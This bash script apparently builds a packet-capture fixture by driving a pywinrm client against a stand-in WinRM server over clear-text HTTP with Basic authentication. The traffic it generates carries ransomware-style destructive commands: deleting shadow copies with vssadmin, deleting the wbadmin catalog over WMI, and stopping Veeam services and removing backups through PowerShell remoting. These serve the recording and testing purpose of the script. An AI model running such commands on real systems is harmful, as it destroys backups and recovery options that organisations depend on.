#!/bin/bash
# WinRM in clear with Basic authentication, as AllowUnencrypted permits it: pywinrm against a stand-in (winrm-server.py, no
# server is in Debian). A wrong password, two commands, a refused method of WMI, and a pipeline of PowerShell remoting whose
# messages are made here. Debian packages: python3-winrm
. "$(dirname "$0")/namespaces.sh"
hosts server client
cat >"$WORK/client.py" <<'END'
import base64, struct, uuid, xmltodict
import winrm
from winrm.exceptions import InvalidCredentialsError, WinRMError

WSMAN = "http://schemas.microsoft.com/wbem/wsman/1"
POWERSHELL = "http://schemas.microsoft.com/powershell/Microsoft.PowerShell"
def connect(password):
    return winrm.Protocol("http://10.99.0.1:5985/wsman", transport="basic", username="backupadm", password=password)
def ask(resource, action, body, shell=None):
    envelope = protocol._get_soap_header(resource_uri=resource, action=action, shell_id=shell)
    envelope["env:Body"] = body
    return protocol.send_message(xmltodict.unparse({"env:Envelope": envelope}))
def psrp(number, kind, data, pipeline=uuid.UUID(int=0)):
    message = struct.pack("<II", 2, kind) + pool.bytes_le + pipeline.bytes_le + data.encode()
    return struct.pack(">QQBI", number, 0, 3, len(message)) + message
def text(octets):
    return base64.b64encode(octets).decode()

try:
    connect("guess").open_shell()
except InvalidCredentialsError:
    pass
protocol = connect("s3cret")
shell = protocol.open_shell(working_directory="C:\\Windows\\Temp")
for line, arguments in (("hostname", ()), ("vssadmin", ("delete", "shadows", "/all", "/quiet"))):
    command = protocol.run_command(shell, line, arguments)
    protocol.get_command_output(shell, command)
    protocol.cleanup_command(shell, command)
protocol.close_shell(shell)
method = {"p:Create_INPUT": {"@xmlns:p": WSMAN + "/wmi/root/cimv2/Win32_Process", "p:CommandLine": "wbadmin delete catalog -quiet"}}
try:
    ask(WSMAN + "/wmi/root/cimv2/Win32_Process", WSMAN + "/wmi/root/cimv2/Win32_Process/Create", method)
except WinRMError:
    pass
pool, pipeline = uuid.uuid4(), uuid.uuid4()
version = '<Obj RefId="0"><MS><Version N="protocolversion">2.3</Version><Version N="PSVersion">2.0</Version></MS></Obj>'
runspaces = '<Obj RefId="0"><MS><I32 N="MinRunspaces">1</I32><I32 N="MaxRunspaces">1</I32></MS></Obj>'
opening = {"creationXml": {"@xmlns": "http://schemas.microsoft.com/powershell", "#text": text(psrp(1, 0x10002, version) + psrp(2, 0x10004, runspaces))}}
ask(POWERSHELL, "http://schemas.xmlsoap.org/ws/2004/09/transfer/Create", {"rsp:Shell": {"rsp:InputStreams": "stdin pr", "rsp:OutputStreams": "stdout", **opening}})
script = "Get-Service Veeam* | Stop-Service -Force; Get-VBRBackup | Remove-VBRBackup -FromDisk -Confirm:$false"
command = f'<Obj RefId="3"><MS><S N="Cmd">{script}</S><B N="IsScript">true</B></MS></Obj>'
create = f'<Obj RefId="0"><MS><Obj N="PowerShell" RefId="1"><MS><Obj N="Cmds" RefId="2"><LST>{command}</LST></Obj></MS></Obj></MS></Obj>'
name = str(pipeline).upper()
line = {"@CommandId": name, "rsp:Command": "", "rsp:Arguments": text(psrp(3, 0x21006, create, pipeline))}
ask(POWERSHELL, WSMAN + "/windows/shell/Command", {"rsp:CommandLine": line}, str(pool))
ask(POWERSHELL, WSMAN + "/windows/shell/Receive", {"rsp:Receive": {"rsp:DesiredStream": {"@CommandId": name, "#text": "stdout"}}}, str(pool))
ask(POWERSHELL, "http://schemas.xmlsoap.org/ws/2004/09/transfer/Delete", {}, str(pool))
END
on server /usr/bin/python3 "$RECORDED/winrm-server.py" 10.99.0.1 &
until on server ss -ltn | grep -q :5985; do sleep 0.1; done
record winrm-clear tcp port 5985
on client /usr/bin/python3 "$WORK/client.py"
finish
